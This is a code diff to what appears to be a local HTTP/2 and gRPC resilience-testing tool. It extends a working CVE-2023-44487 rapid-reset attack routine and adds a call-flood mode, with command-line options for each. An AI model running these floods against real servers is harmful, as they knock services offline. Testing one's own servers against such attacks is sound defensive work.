@@ -17,6 +17,7 @@ from __future__ import annotations
 import argparse
 import asyncio
 import contextlib
+import functools
 import json
 import os
 import socket
@@ -438,13 +439,15 @@ async def reset_streams(
     deadline: float | None = None,
     path: str = IS_ACTIVE,
     body: bytes | None = None,
+    timeout: str | None = None,
 ) -> int:
     """CVE-2023-44487 on ``peer``: HEADERS, DATA and RST_STREAM for ``count`` streams, ``batch`` to a write.
 
-    Stops early once the server sends GOAWAY or closes the connection, or at ``deadline`` (monotonic), as an
-    attacker that reads would; the resets sent.
+    With ``timeout`` (a grpc-timeout such as ``100m``) each call claims that deadline, as if every reset were
+    the client giving up at it. Stops early once the server sends GOAWAY or closes the connection, or at
+    ``deadline`` (monotonic), as an attacker that reads would; the resets sent.
     """
-    block = header_block(path)
+    block = header_block(path, timeout=timeout)
     message = ref_body() if body is None else body
     sent = 0
     stream_id = first_stream
@@ -463,24 +466,108 @@ async def reset_streams(
 
 
 async def rapid_reset(
-    port: int, count: int, *, batch: int = 100, reconnect: bool = False, seconds: float = 60.0
+    port: int,
+    count: int,
+    *,
+    batch: int = 100,
+    reconnect: bool = False,
+    seconds: float = 60.0,
+    timeout: str | None = None,
+    per_connection: int | None = None,
+    source: str | None = None,
 ) -> RapidReset:
     """``reset_streams`` until ``count`` resets are sent: on one connection, or (``reconnect``) on a new one
-    each time the server closes the last. Stops after ``seconds`` in any case."""
+    each time the server closes the last, or (``per_connection``) after that many resets whether or not it
+    did. ``timeout`` is each call's grpc-timeout; ``source`` the loopback address it connects from. Stops after
+    ``seconds`` in any case."""
     result = RapidReset()
     started = time.monotonic()
     deadline = started + seconds
     while result.resets_sent < count and time.monotonic() < deadline:
-        async with raw_peer(port) as peer:
+        async with raw_peer(port, source=source) as peer:
             result.connections += 1
-            result.resets_sent += await reset_streams(peer, count - result.resets_sent, batch=batch, deadline=deadline)
-            with contextlib.suppress(TimeoutError):
-                await peer.wait_closed(timeout=max(0.0, min(10.0, deadline - time.monotonic())))
+            want = min(count - result.resets_sent, per_connection or count)
+            sent = await reset_streams(peer, want, batch=batch, deadline=deadline, timeout=timeout)
+            result.resets_sent += sent
+            wait = max(0.0, min(10.0, deadline - time.monotonic()))
+            if per_connection is None or sent < want:
+                with contextlib.suppress(TimeoutError):
+                    await peer.wait_closed(timeout=wait)
+            else:  # the server answers a PING once it has read every frame before it: the resets all counted
+                await peer.send(ping_frame(b"resets!!"))
+                with contextlib.suppress(AssertionError):
+                    await peer.wait_for(functools.partial(_pinged, peer), "the PING's ACK", timeout=wait)
             if peer.goaway is not None:
                 result.goaways[peer.goaway.error] += 1
             result.closed_by_server += peer.closed
-        if not reconnect:
+        if not reconnect and per_connection is None:
             break
+    result.seconds = time.monotonic() - started
+    return result
+
+
+def _pinged(peer: RawPeer) -> bool:
+    """The server has acknowledged a PING, or cut the peer off."""
+    return peer.goaway is not None or any(f.kind == PING and f.flags & ACK for f in peer.frames)
+
+
+@dataclass
+class CallFlood:
+    """What ``call_flood`` did: calls sent and answered, and whether the server cut the connection off."""
+
+    sent: int = 0
+    answered: int = 0
+    refused: int = 0
+    goaway: str | None = None
+    closed_by_server: bool = False
+    seconds: float = 0.0
+
+
+async def call_flood(
+    peer: RawPeer,
+    count: int,
+    *,
+    in_flight: int = 1000,
+    batch: int = 100,
+    seconds: float = 60.0,
+    path: str = GET_METRICS,
+    body: bytes | None = None,
+) -> CallFlood:
+    """Plain calls (HEADERS and DATA, never reset) on ``peer`` as fast as they are answered: up to ``count``,
+    ``in_flight`` unanswered at most, ``batch`` to a write; stops at a GOAWAY, the close, or after ``seconds``.
+
+    What the server answers is counted as it comes and then dropped, so a long flood holds no frames.
+    """
+    result = CallFlood()
+    block, message = header_block(path), metrics_body() if body is None else body
+    started = time.monotonic()
+    deadline = started + seconds
+    stream_id = 1
+    while result.answered + result.refused < count and time.monotonic() < deadline:
+        for received in peer.frames:
+            if received.kind == GOAWAY:
+                result.goaway = received.error
+            elif received.kind == RST_STREAM:
+                result.refused += 1
+            elif received.kind == HEADERS and received.flags & END_STREAM:
+                result.answered += 1
+        peer.frames.clear()
+        if result.goaway is not None or peer.closed:
+            break
+        room = min(in_flight - (result.sent - result.answered - result.refused), count - result.sent, batch)
+        if room > 0:
+            chunk = b"".join(request_frames(stream_id + 2 * i, block, message) for i in range(room))
+            stream_id += 2 * room
+            if not await peer.send(chunk):
+                break
+            result.sent += room
+            await asyncio.sleep(0)
+            continue
+        peer._changed.clear()
+        with contextlib.suppress(TimeoutError):
+            async with asyncio.timeout(min(0.5, max(0.0, deadline - time.monotonic()))):
+                await peer._changed.wait()
+    result.closed_by_server = peer.closed
     result.seconds = time.monotonic() - started
     return result
 
@@ -878,7 +965,14 @@ async def _run(args: argparse.Namespace) -> dict[str, Any]:
     if args.attack == "grpcio-cancels":
         return await _grpcio_cancels(args)
     if args.attack == "rapid-reset":
-        reset = await rapid_reset(args.port, args.count, reconnect=args.reconnect, seconds=args.seconds)
+        reset = await rapid_reset(
+            args.port,
+            args.count,
+            reconnect=args.reconnect,
+            seconds=args.seconds,
+            timeout=args.timeout,
+            per_connection=args.per_connection,
+        )
         return {
             "resets_sent": reset.resets_sent,
             "connections": reset.connections,
@@ -906,6 +1000,17 @@ async def _run(args: argparse.Namespace) -> dict[str, Any]:
         return idle.summary()
     if args.attack in ("streams", "headers-only"):
         return await _streams(args)
+    if args.attack == "call-flood":
+        async with raw_peer(args.port) as peer:
+            calls = await call_flood(peer, args.count, seconds=args.seconds)
+        return {
+            "sent": calls.sent,
+            "answered": calls.answered,
+            "refused": calls.refused,
+            "goaway": calls.goaway,
+            "closed_by_server": calls.closed_by_server,
+            "seconds": round(calls.seconds, 2),
+        }
     if args.attack == "deadlines":
         return await _deadlines(args)
     if args.attack == "continuation-flood":
@@ -1027,6 +1132,7 @@ def main(argv: list[str] | None = None) -> int:
             "settings-flood",
             "deadlines",
             "continuation-flood",
+            "call-flood",
         ],
     )
     parser.add_argument("--port", type=int, required=True)
@@ -1037,6 +1143,8 @@ def main(argv: list[str] | None = None) -> int:
         "--connections", type=int, default=1, help="streams, headers-only, continuation-flood: connections"
     )
     parser.add_argument("--reconnect", action="store_true", help="rapid-reset: a new connection after each close")
+    parser.add_argument("--timeout", help="rapid-reset: each call's grpc-timeout (e.g. 100m)")
+    parser.add_argument("--per-connection", type=int, help="rapid-reset: a new connection after this many resets")
     parser.add_argument("--deadline", type=float, default=0.001, help="deadlines: seconds per call")
     parser.add_argument("--concurrency", type=int, default=20, help="deadlines: calls in flight")
     parser.add_argument("--tls-ca", help="idle-tls: the CA that signed the server's certificate")
